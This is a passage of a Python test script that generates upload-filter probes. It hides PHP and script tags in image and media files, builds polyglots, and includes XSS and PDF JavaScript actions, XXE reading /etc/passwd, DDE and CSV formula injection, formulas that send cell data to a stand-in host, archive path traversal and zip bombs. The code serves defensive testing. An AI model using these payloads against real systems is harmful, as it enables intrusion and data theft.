"""Judges hundreds of attacks with the upload policy, and lists those that it accepts.

    probes.py LIBRARY

Each attack is judged with the type allowed that it claims to have. For each accepted attack, the table states the reason that the
article "Checking uploads" gives. An accepted attack without a reason is an error, and the exit status is 1.
"""

import itertools
import os
import pathlib
import struct
import sys
import zlib

import readers_archives
import readers_office
import readers_pdf
from carriers import *  # noqa: F403

DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
ODT = "application/vnd.oasis.opendocument.text"
PADDINGS = {"": b"", "a line break": b"\n", "zeros": bytes(16), "ones": b"\xff" * 3, "blanks": b"  \r\n", "a sector": bytes(512)}

# Sentences from the article, by the name of the attack.
EXPLAINED = {
    "unknown behind": "data in no known format after the end of a file (this is only reported)",
    "compressed text": "PHP in a compressed chunk of a PNG",
    "wide": "server tags in UTF-16 other than `<?php`, which no server reads in that encoding",
    "event": "tags in the text of images and audio that run a script only on an event, such as `<details ontoggle=`",
    "nested": "the contents of an archive's entries, and archives inside archives",
    "formula": "formulas in CSV that fetch something (these are only reported)",
    "quoted": "scripts quoted in a text after its first words, and commands that depend on the file name",
    "links": "images and style sheets that an SVG loads from elsewhere (these are only reported)",
    "shown": "HTML tags in a PDF, which browsers recognise by its first bytes",
    "xslt": "transformations (XSLT) where XML is allowed, since they are XML",
    "forms": "files attached to a PDF, and web addresses that it links to or sends forms to",
    "unusual": "PHP in images, audio and video that starts with `<?=` and an unusual expression",
    "text images": "pages and code of servers in XBM and XPM images, which are text",
    "before the last": "program suffixes before the last suffix, which only servers use",
}


def tails():
    carriers = {**IMAGES, **MEDIA, "application/pdf": ("a.pdf", pdf)}
    for (kind, (name, carrier)), (payload, make) in itertools.product(carriers.items(), PAYLOADS.items()):
        for padding, between in PADDINGS.items():
            label = None
            if payload in ("iso", "swf", "ace", "vhdx", "qcow", "pyc", "lnk", "lua", "mht", "arj", "cpio"):
                label = "unknown behind"
            yield f"{payload} behind {kind}" + (f" and {padding}" if padding else ""), kind, name, carrier() + between + make(), label


def ends():
    """Carriers that lack their end, state a wrong length, or have something harmless behind them, and a gzip file behind that."""
    gz = PAYLOADS["gzip"]()
    size = struct.pack
    carriers = {"PNG without its end": ("image/png", png()[:-12]), "GIF without its end": ("image/gif", gif()[:-1])}
    for length in (0, 1 << 31, 0xFFFFFFFF, 10_000):
        carriers[f"WAV that states {length}"] = ("audio/vnd.wave", wav()[:4] + size("<I", length) + wav()[8:])
        carriers[f"WebP that states {length}"] = ("image/webp", webp()[:4] + size("<I", length) + webp()[8:])
        carriers[f"BMP that states {length}"] = ("image/bmp", bmp()[:2] + size("<I", length) + bmp()[6:])
    carriers["WebM of unknown length"] = ("video/webm", _recording())
    for name, (kind, data) in carriers.items():
        yield f"gzip behind a {name}", kind, None, data + gz, None
    shown = {kind: make for kind, (_, make) in {**IMAGES, **MEDIA}.items()}
    for first, second in itertools.product(shown, shown):
        # The first bytes of an icon look like padding.
        label = "unknown behind" if second == "image/vnd.microsoft.icon" else None
        yield f"gzip behind {second} behind {first}", first, None, shown[first]() + shown[second]() + gz, label
    yield "gzip behind an image behind a PDF", "application/pdf", None, pdf() + png() + gz, None
    yield "gzip behind many images", "image/png", None, png() * 30 + gz, None


def _recording():
    start = webm()
    start = start[:start.index(b"\x18\x53\x80\x67") + 4] + b"\1" + b"\xff" * 7
    return start + b"\x1f\x43\xb6\x75\1" + b"\xff" * 7 + b"\xe7\x81\0\xa3\x90" + bytes(range(16))


def inside():
    codes = ["php", "php tag", "asp", "jsp", "script", "html"]
    for code in codes:
        text = PAYLOADS[code]()
        yield f"{code} in tEXt", "image/png", "a.png", png_text(text), None
        yield f"{code} in a comment of JPEG", "image/jpeg", "a.jpg", jpeg(text), None
        yield f"{code} in a comment of GIF", "image/gif", "a.gif", gif(text), None
        yield f"{code} in zTXt", "image/png", "a.png", png_text(text, b"zTXt"), "compressed text"
        yield f"{code} in UTF-16", "image/jpeg", "a.jpg", jpeg(text.decode().encode("utf-16-le")), None if code in ("php", "script", "html") else "wide"
        yield f"{code} in a WAV", "audio/vnd.wave", "a.wav", riff(b"WAVE", (b"LIST", b"INFOICMT" + struct.pack("<I", len(text)) + text), (b"fmt ", struct.pack("<HHIIHH", 1, 1, 8000, 16000, 2, 16)), (b"data", bytes(99))), None
        yield f"{code} in an MP4", "video/mp4", "a.mp4", mp4() + box(b"free", text), None
        yield f"{code} in an SVG", "image/svg+xml", "a.svg", svg(b"<text>" + text + b"</text>"), None
        yield f"{code} at the start of a text", "text/plain", "a.txt", text, None
        yield f"{code} after blanks", "text/plain", "a.txt", b"\xef\xbb\xbf \n\t" + text, None
        yield f"{code} later in a text", "text/plain", "a.txt", b"Some words.\n" + text, "quoted"
        yield f"{code} in a palette", "image/bmp", "a.bmp", bmp()[:54] + (text + bytes(64))[:64], None
        yield f"{code} in a comment of an archive", "application/zip", "a.zip", archive(("a", "b"), comment=text), None
        yield f"{code} before an archive", "application/zip", "a.zip", text + archive(("a", "b")), None
        yield f"{code} in an entry", "application/zip", "a.zip", archive(("a.php", text)), "nested"
        yield f"{code} in a PDF", "application/pdf", "a.pdf", pdf([stream(text)]), "shown" if code in ("script", "html") else None


def polyglots():
    """One file that is two: what Mitra calls stacks, parasites, cavities and zippers."""
    document, packed = pdf(), archive(("a.txt", b"words" * 9))
    yield "PDF in a comment of JPEG", "image/jpeg", "a.jpg", jpeg(document[:600] + b"\n"), None
    yield "PDF in a chunk of PNG", "image/png", "a.png", png_text(document), None
    yield "PDF in a comment of GIF", "image/gif", "a.gif", gif(document[:250]), None
    yield "ZIP in a chunk of PNG", "image/png", "a.png", png_text(packed), None
    yield "ZIP in a stream of PDF", "application/pdf", "a.pdf", pdf([stream(packed)]), "forms"
    yield "PNG as PDF", "application/pdf", "a.pdf", png() + document, None
    yield "PDF with an image before it", "application/pdf", "a.pdf", jpeg() + document, None
    yield "ZIP with an image before it", "application/zip", "a.zip", png() + packed, None
    yield "ZIP with a PDF before it", "application/zip", "a.zip", document + packed, None
    yield "GIF that is JavaScript", "image/gif", "a.gif", b"GIF89a=1/*" + gif()[10:] + b"*/;alert(1)", None
    yield "GIF that is JavaScript behind a comment", "image/gif", "a.gif", b"GIF89a/*\0\1\0\0\0\0" + gif()[13:] + b"*/=1;alert(1)//", None
    yield "BMP that is JavaScript", "image/bmp", "a.bmp", b"BM/*" + bmp()[4:] + b"*/=1;alert(1)", None
    yield "WAV that is JavaScript", "audio/vnd.wave", "a.wav", b"RIFF/*" + wav()[6:] + b"*/=1;alert(1)", None
    yield "JPEG that is JavaScript", "image/jpeg", "a.jpg", b"\xff\xd8\xff\xe0/*" + jpeg()[6:] + b"*/=1;alert(1)", None
    yield "PNG and tar", "image/png", "a.png", _tarred(png()), None
    yield "JPEG and tar", "image/jpeg", "a.jpg", _tarred(jpeg()), None
    yield "image and ISO", "image/png", "a.png", (png() + bytes(32768))[:32768] + b"\1CD001\1\0" + bytes(2100), None
    yield "PDF and ISO", "application/pdf", "a.pdf", pdf([stream(bytes(40000))])[:32768] + b"\1CD001\1\0" + bytes(2100) + document[-200:], None
    yield "PE as BMP", "image/bmp", "a.bmp", b"BM" + pe()[2:], None
    yield "HTML as GIF", "image/gif", "a.gif", b"GIF89a<html><script>alert(1)</script>", None
    yield "PostScript as PDF", "application/pdf", "a.pdf", b"%!PS-Adobe-3.0 PDF-1.4\n(/etc/passwd)(r)file\n" + document, None
    yield "DOCX that is a JAR", DOCX, "a.docx", docx(extra=[("META-INF/MANIFEST.MF", b"Main-Class: A\n"), ("A.class", java_class())]), None
    yield "DOCX that is an APK", DOCX, "a.docx", docx(extra=[("AndroidManifest.xml", b"\3\0\x08\0"), ("classes.dex", dex())]), None
    yield "ODT that is a JAR", ODT, "a.odt", odt(extra=[("META-INF/MANIFEST.MF", b"Main-Class: A\n"), ("A.class", java_class())]), None
    yield "ZIP that is a phar", "application/zip", "a.zip", archive((".phar/stub.php", b"<?php __HALT_COMPILER();"), ("a", b"b")), None
    yield "tar that is a phar", "application/x-tar", "a.tar", tar((".phar/stub.php", b"<?php __HALT_COMPILER();", {}), ("a", b"b", {})), "nested"


def _tarred(image):
    header = bytearray(tar((image[:90].decode("latin-1").replace("\0", "\1"), b"x", {}))[:512])
    header[:100] = (image + bytes(100))[:100]
    header[148:156] = b" " * 8
    header[148:156] = b"%06o\0 " % sum(header)
    return bytes(header) + image[512:] + bytes(1024)


def documents():
    script = b"<</S/JavaScript/JS(app.alert\\(1\\))>>"
    actions = {
        "JavaScript": script, "JavaScript by numbers": b"<</S/J#61vaScript/JS(app.alert\\(1\\))>>", "Launch": b"<</S/Launch/F(calc.exe)>>",
        "ImportData": b"<</S/ImportData/F(a.fdf)>>", "GoToE": b"<</S/GoToE/T<<>>>>", "URI script": b"<</S/URI/URI(javascript:alert\\(1\\))>>",
        "URI in hexadecimal": b"<</S/URI/URI<6A6176617363726970743A31>>>", "RichMedia": b"<</Type/Annot/Subtype/RichMedia>>",
        "Rendition": b"<</S/Rendition/JS(app.alert\\(1\\))>>", "comment between": b"<</S%x\n/JavaScript/JS(1)>>",
        "attachment": b"<</Type/EmbeddedFile/Length 2>>", "SubmitForm": b"<</S/SubmitForm/F(http://e.example)>>",
    }
    for name, action in actions.items():
        label = "forms" if name in ("attachment", "SubmitForm") else None
        yield f"{name} in a PDF", "application/pdf", "a.pdf", pdf([action]), label
        for filters, encode in FILTERS.items():
            data = encode(b"9 0 " + action)
            yield f"{name} in an object stream of {filters}", "application/pdf", "a.pdf", pdf([stream(data, b"/Type/ObjStm/N 1/First 4/Filter[%s]" % filters.encode())]), label
    form = b'<template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><event><script contentType="application/x-javascript">%s</script></event></template>'
    for name, text in {"text": b"app.alert(1)", "CDATA": b"<![CDATA[app.alert(1)]]>", "text after a comment": b"<!-- x -->app.alert(1)"}.items():
        for filters, encode in {"": bytes, **FILTERS}.items():
            part = stream(encode(form % text), b"/Filter[%s]" % filters.encode())
            for place in (b"<</AcroForm<</XFA[(template) 5 0 R]>>>>", b"<</XFA 5 0 R>>", b"<</#58FA 6 0 R>>"):
                yield f"XFA with {name} in {filters or 'plain'}", "application/pdf", "a.pdf", pdf([place, part, b"[(preamble) 7 0 R (template) 5 0 R]"]), None
        xdp = b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/">' + form % text + b"</xdp:xdp>"
        yield f"XDP with {name}", "application/vnd.adobe.xdp+xml", "a.xdp", xdp, None
        yield f"XDP in UTF-16 with {name}", "application/vnd.adobe.xdp+xml", "a.xdp", xdp.decode().encode("utf-16"), None
    yield "PDF in an XDP", "application/vnd.adobe.xdp+xml", "a.xdp", b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><pdf xmlns="http://ns.adobe.com/xdp/pdf/"><document><chunk>JVBERi0=</chunk></document></pdf></xdp:xdp>', None
    for action in (b"<Launch><File Name='calc.exe'/></Launch>", b"<URI Name='java&#115;cript:alert(1)'/>"):
        yield f"XFDF with {action[1:7].decode()}", "application/xfdf", "a.xfdf", b'<xfdf xmlns="http://ns.adobe.com/xfdf/"><annots><link><OnActivation><Action Trigger="U">' + action + b"</Action></OnActivation></link></annots></xfdf>", None
    yield "encrypted PDF", "application/pdf", "a.pdf", pdf(trailer=b"/Encrypt<</Filter/Standard/V 1>>"), None
    yield "object stream with an unknown filter", "application/pdf", "a.pdf", pdf([stream(b"x", b"/Type/ObjStm/N 1/First 4/Filter/LZWDecode")]), None


FILTERS = {
    "/FlateDecode": zlib.compress, "/FlateDecode/FlateDecode": lambda data: zlib.compress(zlib.compress(data)),
    "/ASCIIHexDecode": lambda data: data.hex().encode() + b">", "/ASCIIHexDecode/FlateDecode": lambda data: zlib.compress(data).hex().encode() + b">",
}


def drawings():
    inner = {
        "script": b"<script>alert(1)</script>", "prefixed script": b'<s:script xmlns:s="http://www.w3.org/2000/svg">alert(1)</s:script>',
        "handler": b'<rect onload="alert(1)"/>', "link": b'<a xlink:href="javascript:alert(1)"><text>x</text></a>',
        "link by references": b'<a xlink:href="jav&#x61;script&#58;alert(1)"><text>x</text></a>', "tab in a link": b'<a xlink:href="java&#9;script:1"><text>x</text></a>',
        "page in data": b'<use xlink:href="data:image/svg+xml;base64,PHN2Zz4="/>', "foreign frame": b'<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:1"/></foreignObject>',
        "capital script": b"<SCRIPT>alert(1)</SCRIPT>", "capital frame": b"<IFRAME src='x'/>",
        "animated link": b'<a><set attributeName="href" to="javascript:alert(1)"/></a>', "CDATA": b"<script><![CDATA[alert(1)]]></script>",
    }
    for name, data in inner.items():
        yield f"{name} in a drawing", "image/svg+xml", "a.svg", svg(data), None
        yield f"{name} in a drawing in UTF-16", "image/svg+xml", "a.svg", svg(data).decode().encode("utf-16"), None
    before = {
        "external entity": b'<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>', "external DTD": b'<!DOCTYPE svg SYSTEM "http://e.example/x.dtd">',
        "parameter entity": b'<!DOCTYPE svg [<!ENTITY % x SYSTEM "http://e.example/"> %x;]>', "style sheet": b'<?xml-stylesheet href="http://e.example/x.xsl" type="text/xsl"?>',
        "entities that multiply": b"<!DOCTYPE svg [<!ENTITY a '" + b"x" * 99 + b"'>" + b"".join(b"<!ENTITY %c '%s'>" % (98 + i, (b"&%c;" % (97 + i)) * 20) for i in range(9)) + b"]>",
        "UTF-7": b'<?xml version="1.0" encoding="UTF-7"?>',
    }
    for name, data in before.items():
        yield f"{name} in a drawing", "image/svg+xml", "a.svg", svg(b"<text>&j;</text>" if "multiply" in name else b"", before=data), None
        yield f"{name} in XML", "application/xml", "a.xml", data + (b"<svg>&j;</svg>" if "multiply" in name else b"<svg/>"), None
    for inner in (b"<!-- --!>%s -->", b"<!-->%s-->", b"<title><![CDATA[>%s]]></title>", b"<?a >%s?>", b"<?a b='>%s'?>", b"<!a '>%s'>"):
        for script in (b"<script>x()</script>", b"<img src='x' onerror='x()'/>", b"<iframe srcdoc='x'/>"):
            yield f"{inner[:9]} that a page ends", "image/svg+xml", "a.svg", svg(inner % script), None
    yield "image from elsewhere", "image/svg+xml", "a.svg", svg(b'<image xlink:href="http://e.example/a.png"/>'), "links"
    yield "XSLT", "application/xml", "a.xml", b'<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"/>', "xslt"


def offices():
    field = "<w:p><w:r><w:instrText>DDEAUTO c:\\\\x</w:instrText></w:r></w:p>"
    split = "<w:p><w:r><w:instrText>D</w:instrText></w:r><w:r><w:instrText>DE c</w:instrText></w:r></w:p>"
    simple = '<w:p><w:fldSimple w:instr=" DDE x"/></w:p>'
    for name, body in {"field": field, "split field": split, "simple field": simple}.items():
        yield f"DDE in a {name}", DOCX, "a.docx", docx(body), None
        yield f"DDE in a {name} of a part with another name", DOCX, "a.docx", docx(body, part="evil/main.xml"), None
        yield f"DDE in a {name} of a part at the top", DOCX, "a.docx", docx(body, part="main.dat"), None
    for kind in ("attachedTemplate", "frame", "subDocument", "oleObject", "aFChunk", "control"):
        for target in ("http://e.example/x.dotm", "\\\\e.example\\x", "file://e.example/x", "&#104;ttp://e.example/"):
            yield f"{kind} at {target}", DOCX, "a.docx", docx(links=[(kind, target, True)]), None
    programs = ["word/vbaProject.bin", "word/VBAPROJECT.BIN", "word/activeX/activeX1.bin", "word/embeddings/oleObject1.bin", "word/embeddings/a.docm"]
    for program in programs:
        yield f"{program}", DOCX, "a.docx", docx(extra=[(program, b"x" * 50)]), None
    kinds = ["application/vnd.ms-office.vbaProject", "application/vnd.ms-word.document.macroEnabled.main+xml", "application/vnd.ms-office.activeX+xml",
             "application/vnd.ms-excel.macrosheet+xml", "application/vnd.ms-office.vb&#97;Project"]
    for kind in kinds:
        yield f"content type {kind}", DOCX, "a.docx", docx(types=content_types(("/x.bin", kind)), extra=[("x.bin", b"x")]), None
    for encoding in ("UTF-7", "IBM037", "UTF-32"):
        yield f"types in {encoding}", DOCX, "a.docx", docx(types=content_types().replace("UTF-8", encoding)), None
    yield "types in UTF-16", DOCX, "a.docx", docx(types=content_types(("/x.bin", kinds[0])).replace("UTF-8", "UTF-16").encode("utf-16")), None
    yield "macro sheet", XLSX, "a.xlsx", xlsx(extra=[("xl/macrosheets/sheet1.xml", "<x/>")]), None
    link = '<externalLink xmlns="x"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
    kind = f"{SHEET}.externalLink+xml"
    yield "DDE link", XLSX, "a.xlsx", xlsx(extra=[("xl/externalLinks/externalLink1.xml", link)]), None
    yield "DDE link with another name", XLSX, "a.xlsx", xlsx(extra=[("xl/x.xml", link)], types=[("/xl/x.xml", kind)]), None
    yield "DDE in ODT", ODT, "a.odt", odt('<text:dde-connection-decl office:name="a"/><office:dde-source office:dde-application="x"/>'), None
    yield "macro in ODT", ODT, "a.odt", odt(extra=[("Basic/Standard/Module1.xml", "<x/>")]), None
    yield "script in ODT", ODT, "a.odt", odt(extra=[("Scripts/python/a.py", "import os")]), None
    yield "event in ODT", ODT, "a.odt", odt('<script:event-listener xlink:href="vnd.sun.star.script:a"/>'), None
    for inside in (b"{\\object\\objocx{\\*\\objdata 01}}", b"{\\object\\objemb{\\*\\objdata 01}}", b"{\\field{\\*\\fldinst DDEAUTO x}}", b"{\\*\\template http://e.example/x}"):
        yield f"{inside[:20]} in RTF", "application/rtf", "a.rtf", rtf(inside), None


def hidden():
    """Office documents with text that is no tag, but looks like the start of one with a quote that isn't closed."""
    begin, end = '<w:fldChar w:fldCharType="begin"/>', '<w:fldChar w:fldCharType="end"/>'
    field = f"<w:p>{begin}<w:instrText>DDEAUTO c:\\\\x</w:instrText>{end}</w:p>"
    row = f'<Relationship Id="r1" Type="{OFFICE}/attachedTemplate" Target="http://e.example/x.dotm" TargetMode="External"/>'
    project = content_types(("/word/x.bin", "application/vnd.ms-office.vbaProject"))
    for kind, start, stop in (("comment", "<!--<", " a='-->"), ("section", "<![CDATA[<", " a=']]>"), ("instruction", "<?a <", " a='?>")):
        for tag in ("w:fldChar", "w:fldSimple", "w:p"):
            yield f"DDE behind {tag} in a {kind}", DOCX, "a.docx", docx(f"<w:p>{start}{tag}{stop}</w:p>{field}"), None
        hidden_row = relations().replace("</Rel", f"{start}Relationship{stop}{row}</Rel")
        yield f"template behind a {kind}", DOCX, "a.docx", docx(extra=[("word/_rels/settings.xml.rels", hidden_row)]), None
        yield f"project behind a {kind}", DOCX, "a.docx", docx(types=project.replace("<Override", f"{start}Override{stop}<Override", 1), extra=[("word/x.bin", b"a")]), None
        link = '<text:a xlink:href="vnd.sun.star.script:a?language=Basic">a</text:a>'
        yield f"macro behind a {kind}", ODT, "a.odt", odt(f"{start}text:a{stop}{link}"), None
        yield f"shape behind a {kind}", XLSX, "a.xlsx", xlsx(extra=[("xl/drawings/drawing1.xml", f'<a>{start}b{stop}<sp macro="[1]!evil"/></a>')]), None
        yield f"ribbon behind a {kind}", DOCX, "a.docx", docx(extra=[("customUI/customUI.xml", f'<a>{start}b{stop}<button onAction="http://e.example/x.dotm!a"/></a>')]), None
    parts = {
        "end of a field in a comment": f"<w:instrText>DD</w:instrText><!--{end}--><w:instrText>EAUTO x</w:instrText>",
        "end of a field in a section": f"<w:instrText>DD</w:instrText><w:t><![CDATA[{end}]]></w:t><w:instrText>EAUTO x</w:instrText>",
        "end of a tag in a value": '<w:instrText a=" > ">DDEAUTO x</w:instrText>',
        "end of an element in a value": '<w:instrText a="/>">DDEAUTO x</w:instrText>',
        "comment in an instruction": "<w:instrText>DD<!-- -->EAUTO x</w:instrText>",
        "instruction in a section": "<w:instrText><![CDATA[DDE]]>AUTO x</w:instrText>",
    }
    for name, content in parts.items():
        yield name, DOCX, "a.docx", docx(f"<w:p>{begin}{content}{end}</w:p>"), None
    for name, content in {"comment": "<!-- -->[1]!evil", "section": "<![CDATA[[1]!evil]]>", "instruction": "<?a?>[1]!evil"}.items():
        yield f"macro of a control behind a {name}", XLSX, "a.xlsx", xlsx(extra=[("xl/drawings/a.vml", f"<a><x:FmlaMacro>{content}</x:FmlaMacro></a>")]), None
    yield "script behind a comment", ODT, "a.odt", odt('<office:script script:language="ooo:Basic"><!-- -->MsgBox</office:script>'), None


def archives():
    yield "no directory", "application/zip", "a.zip", archive(("a", "b"))[:-22], None
    yield "another number of entries", "application/zip", "a.zip", archive(("a", "b"))[:-12] + b"\5" + archive(("a", "b"))[-11:], None
    paths = [".. /../evil", "C:x", "../../evil", "/etc/passwd", "a/../../b", "..\\x", "C:\\x", "C:x/../..", "\\\\e\\x", "a/b/../../../c"]
    for path in paths:
        yield f"entry {path}", "application/zip", "a.zip", archive((path, "x")), None
        yield f"entry {path}", "application/x-tar", "a.tar", tar((path, b"x", {})), None
        yield f"extended entry {path}", "application/x-tar", "a.tar", tar(("a", b"x", {"pax_headers": {"path": path}}), kind=tarfile.PAX_FORMAT), None
        good = archive(("a" * len(path), "x" * 50))
        yield f"local entry {path}", "application/zip", "a.zip", good.replace(b"a" * len(path), path.encode(), 1), None
        yield f"link to {path}", "application/x-tar", "a.tar", tar(("a", b"", {"type": tarfile.SYMTYPE, "linkname": path})), None
        yield f"hard link to {path}", "application/x-tar", "a.tar", tar(("a", b"", {"type": tarfile.LNKTYPE, "linkname": path})), None
        yield f"global entry {path}", "application/x-tar", "a.tar", _with_global(path), None
        yield f"entry {path} behind the end", "application/x-tar", "a.tar", tar(("a", b"x", {})) + tar((path, b"x", {})), None
    inner = tar(("../../evil", b"", {}))[:512]
    yield "two sizes", "application/x-tar", "a.tar", tar(("a", inner, {"pax_headers": {"size": "0"}}), kind=tarfile.PAX_FORMAT), None
    yield "device", "application/x-tar", "a.tar", tar(("a", b"", {"type": tarfile.BLKTYPE})), None
    yield "bomb", "application/zip", "a.zip", archive(("a", bytes(40 << 20))), None
    yield "gzip bomb", "application/gzip", "a.gz", gzip.compress(bytes(40 << 20)), None
    yield "archive in an archive", "application/zip", "a.zip", archive(("a.zip", archive(("../x", "y")))), "nested"


def _with_global(path):
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.PAX_FORMAT, pax_headers={"path": path}) as out:
        info = tarfile.TarInfo("a")
        info.size = 1
        out.addfile(info, io.BytesIO(b"x"))
    return buffer.getvalue()


SERVED = "php php5 phtml phar asp aspx ashx jsp jspx cgi shtml cfm".split()


def names():
    suffixes = "php php5 phtml phar asp aspx ashx jsp jspx cgi pl py rb sh exe dll com bat cmd ps1 vbs js jse wsf hta lnk scr msi jar shtml svg html htm xht cfm".split()
    for suffix in suffixes:
        for name in (f"a.{suffix}", f"a.{suffix}.png", f"a.png.{suffix}", f"a.{suffix};.png", f"a.{suffix}%00.png", f"a.{suffix}\0.png", f"a.{suffix}.", f"a.{suffix} "):
            # Servers run a file by any of its suffixes, desktops by the last.
            label = None if suffix in SERVED else "before the last"
            yield f"name {name!r}", "image/png", name, png(), label
    for name in ("../a.png", "..\\a.png", "/etc/passwd/a.png", "C:\\a.png", ".htaccess", "web.config", ".user.ini", "CON.png", "a\u202egnp.exe", "a.png\u2028", "a\n.png",
                 "x" * 300 + ".png", "\uff0e\uff0e\uff0fa.png", "a.png:stream", "C:a.png", "com\u00b9.png", "a.png::$DATA", "desktop.ini", "Thumbs.db.php"):
        yield f"name {name[:30]!r}", "image/png", name, png(), None


def texts():
    lines = {
        "SYLK": b"ID;PWXL;N;E\nC;Y1;X1;E=EXEC(\"calc\")\nE\n", "IQY": b"WEB\n1\nhttp://e.example/x\n", "RTF": rtf(), "PostScript": PAYLOADS["postscript"](),
        "shell": b"#!/bin/sh\nls\n", "page": b"<!doctype html><p>x", "comment and page": b"<!-- x --><html>", "UTF-7 page": b"+ADw-script+AD4-alert(1)",
        "handler": b"<img src=x onerror=alert(1)>", "shebang after a line": b"\n#!/bin/sh\nls\n", "XML": b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"/>',
        "mail": PAYLOADS["mht"](), "print job": b"\x1b%-12345X@PJL ENTER LANGUAGE=POSTSCRIPT\n%!PS\nshowpage\n", "PDF": b"words\n" + pdf(),
    }
    for name, data in lines.items():
        yield f"{name} as text", "text/plain", "a.txt", data, "quoted" if name == "IQY" else None
        yield f"{name} as CSV", "text/csv", "a.csv", data, "quoted" if name == "IQY" else None
    formulas = ["=cmd|' /c calc'!A1", "+cmd|' /c calc'!A1", "-2+3+cmd|' /c calc'!D2", "@SUM(1+1)*cmd|' /c calc'!A0", "=1+MSEXCEL|'..\\..\\x'!''",
                '"=cmd|\' /c calc,1\'!A1"', "  =cmd|/c!A1", '=DDE("cmd";"/c calc";"x")', '=RTD("x",,"y")', "=A1&cmd|'x'!A0"]
    for formula in formulas:
        for name, kind, separator in (("a.csv", "text/csv", ","), ("a.csv", "text/csv", ";"), ("a.tsv", "text/tab-separated-values", "\t")):
            yield f"formula {formula}", kind, name, f"a{separator}b\n1{separator}{formula}{separator}2\n3{separator}4\n".encode(), None
    for formula in ('=HYPERLINK("http://e.example/?"&A1)', '=WEBSERVICE("http://e.example/?"&A1)', '=IMPORTXML(CONCAT("http://e.example/?",A1),"//a")'):
        yield f"formula {formula}", "text/csv", "a.csv", f"a,b\n{formula},2\n3,4\n".encode(), "formula"
    for data in (b"{}<script>", b'{"a":1}\n<html>', b"[1,2", b'{"a":}', b"\xff\xfe{\0", b'{"a":1}x'):
        yield f"{data!r} as JSON", "application/json", "a.json", data, None


def free_bytes():
    """Code in every place whose bytes a specification leaves free."""
    codes = {code: PAYLOADS[code]() for code in ("php", "php tag", "asp", "jsp", "script", "html")}
    codes.update({"image": b"<img src=x onerror=alert(1)>", "drawing": b"<svg/onload=alert(1)>"})
    codes["event"] = b"<details open ontoggle=alert(1)>"
    for code, text in codes.items():
        label = "event" if code == "event" else None
        for place, (kind, data) in {**_in_images(text), **_in_media(text)}.items():
            yield f"{code} in {place}", kind, None, data, label


def _in_images(text):
    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    def segment(marker, data):
        return b"\xff" + bytes([marker]) + struct.pack(">H", len(data) + 2) + data

    def extension(kind, data):
        return b"\x21" + kind + bytes([len(data)]) + data + b"\0"

    rows = zlib.compressobj(0)
    stored = rows.compress(b"\0" + text.ljust(12, b"\0")) + rows.flush()
    places = {}
    for kind in (b"prVt", b"eXIf", b"iTXt", b"PLTE", b"IDAT", b"hIST"):
        places[f"the chunk {kind.decode()} of a PNG"] = "image/png", png(extra=chunk(kind, text))
    places["stored pixels of a PNG"] = "image/png", png(extra=chunk(b"IDAT", stored))
    places["the last chunk of a PNG"] = "image/png", png()[:-12] + chunk(b"IEND", text)
    head, rest = jpeg()[:20], jpeg()[20:]
    for marker in (*range(0xE0, 0xF0), 0xFE, 0xF0, 0xDB):
        places[f"the segment {marker:X} of a JPEG"] = "image/jpeg", head + segment(marker, text) + rest
    places["the scan of a JPEG"] = "image/jpeg", jpeg()[:-2] + text + b"\xff\xd9"
    body = gif()
    for kind in (b"\xfe", b"\xff", b"\x01", b"\x42"):
        places[f"the extension {kind.hex()} of a GIF"] = "image/gif", body[:19] + extension(kind, text) + body[19:]
    places["the pixels of a GIF"] = "image/gif", body[:-2] + bytes([len(text)]) + text + b"\0\x3b"
    places["the colours of a GIF"] = "image/gif", b"GIF89a\1\0\1\0\x86\0\0" + text[:60].ljust(384, b"\0") + body[19:]
    padded = text.ljust(96, b"\0")
    places["a gap of a BMP"] = "image/bmp", bmp()[:10] + struct.pack("<I", 54 + 96) + bmp()[14:54] + padded + bmp()[54:]
    places["the pixels of a BMP"] = "image/bmp", bmp()[:54] + padded[:48]
    for kind in (b"EXIF", b"XMP ", b"ICCP", b"abcd", b"ALPH"):
        places[f"the chunk {kind.decode()} of a WebP"] = "image/webp", riff(
            b"WEBP", (b"VP8L", b"\x2f" + struct.pack("<I", 0) + bytes(11)), (kind, text))
    places["a gap of a TIFF"] = "image/tiff", tiff() + text
    fields = tiff()
    places["a tag of a TIFF"] = "image/tiff", fields[:8] + struct.pack("<H", 10) + fields[10:118] + struct.pack(
        "<HHII", 65000, 7, len(text), 154) + bytes(4) + bytes(range(16)) + text
    image = png()
    places["a gap of an icon"] = "image/vnd.microsoft.icon", struct.pack("<HHH", 0, 1, 1) + struct.pack(
        "<BBBBHHII", 4, 4, 0, 0, 1, 24, len(image), 22 + len(text)) + text + image
    places["the resources of a PSD"] = "image/vnd.adobe.photoshop", psd()[:30] + struct.pack(">I", len(text)) + text + psd()[34:]
    heic = box(b"ftyp", b"heic\0\0\0\0mif1heic") + box(b"meta", bytes(4) + box(b"hdlr", bytes(8) + b"pict" + bytes(13)))
    for kind in (b"free", b"skip", b"uuid", b"mdat", b"abcd"):
        places[f"the box {kind.decode()} of a HEIC"] = "image/heic", heic + box(kind, text) + box(b"mdat", bytes(9))
    start = box(b"jP  ", b"\r\n\x87\n") + box(b"ftyp", b"jp2 \0\0\0\0jp2 ") + box(b"jp2h", box(b"ihdr", bytes(14)))
    for kind in (b"xml ", b"uuid", b"abcd"):
        places[f"the box {kind.decode()} of a JPEG 2000"] = "image/jp2", start + box(kind, text) + box(b"jp2c", b"\xff\x4f\xff\x51")
    places["a box of a JPEG XL"] = "image/jxl", box(b"JXL ", b"\r\n\x87\n") + box(b"ftyp", b"jxl \0\0\0\0jxl ") + box(
        b"Exif", text) + box(b"jxlc", jxl())
    return places


def _in_media(text):
    def frame(kind, data):
        return kind + struct.pack(">I", len(data)) + bytes(2) + data

    tag = frame(b"TIT2", b"\0" + text).ljust(250, b"\0")
